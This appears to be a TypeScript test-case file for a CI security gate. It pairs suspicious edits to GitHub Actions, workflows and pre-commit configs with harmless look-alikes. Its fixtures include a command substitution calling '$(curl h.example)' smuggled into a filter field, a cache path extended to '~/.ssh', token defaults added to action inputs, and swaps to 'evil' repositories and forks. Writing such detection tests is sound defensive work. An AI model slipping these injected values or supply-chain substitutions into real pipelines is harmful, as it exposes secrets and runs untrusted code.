import known from '../../../../worker/gates/delayed-execution/rules/ci/known-releases.json' with { type: 'json' }
import { changed } from '../../gate-input.ts'
import type { RuleCase } from '../rule-case.ts'
import { pair, release, tests } from './reach-cases.ts'

const expression = (inner: string) => `\${{ ${inner} }}`
const action = (inputs: string, using = 'node24, main: a.js') => `inputs: ${inputs}\nruns: { using: ${using} }\n`

function ofAction(what: string, before: string, attack: string, harmless: string): RuleCase {
  const fires = changed('action.yml', before, attack)
  return { rule: 'workflow', severity: 'hold', what, fires, quiet: changed('action.yml', before, harmless) }
}

function ofHooks(what: string, before: string, attack: string, harmless: string): RuleCase {
  const written = (rev: string, repo = 'https://github.com/astral-sh/ruff-pre-commit') =>
    `repos:\n  - repo: ${repo}\n    rev: ${rev}\n    hooks: [{ id: a }]\n`
  const file = '.pre-commit-config.yaml'
  return {
    ...{ rule: 'pre-commit-revision', severity: 'hold', what },
    fires: changed(file, written(before), written(attack)),
    quiet: changed(file, written(before), written(harmless)),
  }
}

const ruff = known['astral-sh/ruff-pre-commit'].map((line) => line.split(' '))
const [ruffTag = '', ruffCommit = ''] = ruff[0] ?? []
const checkout = known['actions/checkout'][0]?.split(' ')[1] ?? ''
const [oldTag = '', oldCommit = ''] = ruff[1] ?? []

/** What an action takes and gives, and which release of a hook runs: each beside the change that it could pass for. */
export const offeredCases: readonly RuleCase[] = [
  ofAction(
    'an input that has a token without being given',
    action('{ a: { default: b } }'),
    action(`{ a: { default: b }, token: { default: "${expression('github.token')}" } }`),
    action('{ a: { default: b }, draft: { description: Whether, default: false } }'),
  ),
  ofAction(
    'an input that is another one without being given',
    action('{ a: { default: b } }'),
    action('{ a: { default: c } }'),
    action('{ a: { default: b, description: What it is } }'),
  ),
  ofAction(
    'an input that is a script without being given',
    action('{ a: { default: b } }'),
    action('{ a: { default: b }, pre-script: { default: x } }'),
    action('{ a: { default: b }, pre-script: { description: What runs first } }'),
  ),
  ofAction(
    'a new input that the steps knew already',
    action('{}', `composite, steps: [{ run: "${expression('inputs.call')} x" }]`),
    action('{ call: { default: evil } }', `composite, steps: [{ run: "${expression('inputs.call')} x" }]`),
    action('{ more: { default: b } }', `composite, steps: [{ run: "${expression('inputs.call')} x" }]`),
  ),
  ofAction(
    'another value for an output',
    `outputs: { a: { value: "${expression('steps.a.outputs.a')}" } }\n${action('{}')}`,
    `outputs: { a: { value: "${expression('github.head_ref')}" } }\n${action('{}')}`,
    `outputs: { a: { value: "${expression('steps.a.outputs.a')}", description: Which }, b: { description: More } }\n${action('{}')}`,
  ),
  ofHooks('a commit that no release of a hook is', oldCommit, 'c'.repeat(40), ruffCommit),
  ofHooks('an older release of a hook', ruffTag, oldTag, ruffCommit),
  ofHooks('a branch of a hook', oldTag, 'main', ruffTag),
  {
    rule: 'pre-commit-revision',
    severity: 'hold',
    what: 'the commit of a release under another repository',
    fires: changed(
      '.pre-commit-config.yaml',
      `repos:\n  - { repo: "https://github.com/evil/ruff-pre-commit", rev: ${oldTag}, hooks: [] }\n`,
      `repos:\n  - { repo: "https://github.com/evil/ruff-pre-commit", rev: ${ruffTag}, hooks: [] }\n`,
    ),
    quiet: changed(
      '.pre-commit-config.yaml',
      `repos:\n  - { repo: "https://github.com/astral-sh/ruff-pre-commit", rev: ${oldTag}, hooks: [] }\n`,
      `repos:\n  - { repo: "https://github.com/astral-sh/ruff-pre-commit", rev: ${ruffTag}, hooks: [] }\n`,
    ),
  },
  pair(
    'a command among patterns of files',
    tests.replace('cache: npm', 'filters: "a: ./a/**"'),
    ['"a: ./a/**"', '"a: ./a/**\\nb: $(curl h.example)"'],
    ['"a: ./a/**"', '"a: ./a/**\\nb:\\n  - \'!b/*.{ts,js}\'"'],
  ),
  pair(
    'a place outside among others',
    tests.replace('cache: npm', 'path: out'),
    ['path: out', 'path: "out\\n~/.ssh"'],
    ['path: out', 'path: "out/a\\nout/*.png\\n"'],
  ),
  pair(
    'a cache that others filled, by another name, beside a secret',
    release.replace('cache-key: v1', 'enable-cache: false'),
    ['enable-cache: false', 'enable-cache: true'],
    [', enable-cache: false', ''],
  ),
  pair(
    'a cache at a place that is an expression',
    tests.replace('cache: npm', 'enable-cache: true'),
    ['enable-cache: true', `cache-dependency-glob: "${expression('github.head_ref')}"`],
    ['enable-cache: true', 'enable-cache: false, prune-cache: true, cache-dependency-glob: uv.lock'],
  ),
  ...(
    [
      ['another repository beside the project', `actions/checkout@${checkout}\n        with: { repository: evil/x }`],
      ['a commit of a fork that fetches the project', `actions/checkout@${'c'.repeat(40)}`],
      ['an action of another owner that fetches the project', `evil/checkout@${checkout}`],
    ] as const
  ).map(([what, uses]) => {
    const known = tests
      .replace('acme/checkout@v4', `actions/checkout@${checkout}`)
      .replace(', persist-credentials: false', '')
    return pair(
      what,
      known.replace('fetch-depth: 1', 'ref: main'),
      ['      - name: Tests\n', `      - uses: ${uses}\n      - name: Tests\n`],
      ['      - name: Tests\n', `      - uses: actions/checkout@${checkout}\n      - name: Tests\n`],
    )
  }),
  pair(
    'credentials that are kept by a second checkout',
    tests,
    ['      - name: Tests\n', `      - uses: actions/checkout@${checkout}\n      - name: Tests\n`],
    [
      '      - name: Tests\n',
      `      - uses: actions/checkout@${checkout}\n        with: { persist-credentials: false }\n      - name: Tests\n`,
    ],
  ),
  ofAction(
    'a switch of an input that was there',
    action('{ verify: { default: true } }'),
    action('{ verify: { default: false } }'),
    action('{ verify: { default: true }, git-user: { default: true } }'),
  ),
]
